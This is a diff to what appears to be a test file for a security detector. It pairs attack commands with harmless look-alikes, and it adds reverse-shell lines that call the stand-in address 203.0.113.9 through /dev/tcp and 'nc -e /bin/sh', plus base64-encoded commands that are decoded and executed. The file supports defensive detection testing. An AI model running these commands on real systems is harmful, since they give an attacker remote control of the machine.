@@ -35,7 +35,9 @@ os.dup2(accepted.fileno(), 0)
 END
 """),
 
-    Proof("Reverse shell command", attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || true",
+    Proof("Reverse shell command", before="ln -s /usr/bin/busybox /usr/local/bin/nc",
+          attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || true",
+          others=("nc 203.0.113.9 4444 -e /bin/sh || true", REVERSE_SHELL),
           look_alike="python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 7001))'"),
 
     Proof("Server program started a shell", attack=POSTGRES.format("id"), look_alike="sh -c 'nginx -t'"),
@@ -46,6 +48,7 @@ END
           look_alike="sh -c 'curl -fsS http://203.0.113.9/script | grep id'"),
 
     Proof("Encoded command decoded and run", attack="sh -c 'echo aWQK | base64 -d | sh'",
+          others=("""python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'""",),
           look_alike="sh -c 'echo aWQK | base64 -d >/srv/ca.pem'"),
 
     Proof("Break-out tool run in a container", attack="capsh --print >/dev/null", look_alike="lsns >/dev/null"),
